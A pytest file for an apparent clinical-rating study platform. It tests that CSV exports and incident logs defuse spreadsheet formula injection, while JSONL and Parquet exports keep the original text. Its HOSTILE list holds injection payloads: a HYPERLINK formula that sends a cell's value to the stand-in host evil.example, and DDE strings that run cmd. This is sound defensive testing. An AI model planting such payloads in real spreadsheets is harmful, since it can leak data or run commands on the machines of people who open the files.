"""Nothing leaks, even to insiders (issue 23): a clinician's free text never runs as a formula in the researcher's
spreadsheet. CSV cells that start like a formula are neutralized; JSON lines and Parquet keep the text exactly."""

import csv
import io
import json

import pandas as pd
import pytest

from evaluation.assignment import assignment_next
from evaluation.exports import DATA_DICTIONARY, export_bytes
from evaluation.services import rating_submit
from evaluation.triage import incident_log_bytes
from healthagent.spreadsheet import neutralize

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_neutralize_prefixes_only_text_that_starts_like_a_formula():
    assert [neutralize(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]
    assert [neutralize(value) for value in ("fine = ok", "", -3, 2.5, None, True)] == [
        "fine = ok",
        "",
        -3,
        2.5,
        None,
        True,
    ]


@pytest.fixture
def hostile_study(grounded_study):
    first, second = list(grounded_study.clinicians.order_by("pk"))[:2]
    for rater, comment, reason in [(first, HOSTILE[0], HOSTILE[1]), (second, HOSTILE[3], HOSTILE[2])]:
        assignment = assignment_next(study=grounded_study, rater=rater)
        rating_submit(
            assignment_id=assignment.pk,
            rater=rater,
            scores={"relevance": 2, "context": 3, "safety": 1},
            comment=comment,
            unsafe=True,  # opens a safety incident, so the incident log carries the text too
            unsafe_reason=reason,
        )
    return grounded_study


def test_csv_exports_neutralize_formulas_and_jsonl_and_parquet_keep_them(hostile_study):
    rows = list(csv.DictReader(io.StringIO(export_bytes(hostile_study, "csv").decode())))
    comments = {row["comment"] for row in rows if row["state"] == "rated"}
    reasons = {row["unsafe_reason"] for row in rows if row["state"] == "rated"}
    assert comments == {"'" + HOSTILE[0], "'" + HOSTILE[3]} and reasons == {"'" + HOSTILE[1], "'" + HOSTILE[2]}
    every_cell = [value for row in rows for value in row.values()]
    assert not any(value.startswith(("=", "+", "@", "\t", "\r")) for value in every_cell)

    records = [json.loads(line) for line in export_bytes(hostile_study, "jsonl").decode().splitlines()]
    assert {r["comment"] for r in records if r["state"] == "rated"} == {HOSTILE[0], HOSTILE[3]}
    frame = pd.read_parquet(io.BytesIO(export_bytes(hostile_study, "parquet")))
    assert set(frame.loc[frame["state"] == "rated", "unsafe_reason"]) == {HOSTILE[1], HOSTILE[2]}
    assert "apostrophe" in DATA_DICTIONARY["comment"]


def test_the_incident_log_csv_neutralizes_formulas_and_its_json_keeps_them(hostile_study):
    rows = list(csv.DictReader(io.StringIO(incident_log_bytes(hostile_study, "csv").decode())))
    assert {row["comment"] for row in rows} == {"'" + HOSTILE[0], "'" + HOSTILE[3]}
    assert {row["unsafe_reason"] for row in rows} == {"'" + HOSTILE[1], "'" + HOSTILE[2]}
    log = json.loads(incident_log_bytes(hostile_study, "json"))
    assert {rating["comment"] for entry in log for rating in entry["ratings"]} == {HOSTILE[0], HOSTILE[3]}


def test_the_zip_for_publication_neutralizes_its_csv(hostile_study):
    import zipfile

    bundle = zipfile.ZipFile(io.BytesIO(export_bytes(hostile_study, "zip")))
    rows = list(csv.DictReader(io.StringIO(bundle.read("ratings.csv").decode())))
    assert {row["comment"] for row in rows if row["state"] == "rated"} == {"'" + HOSTILE[0], "'" + HOSTILE[3]}
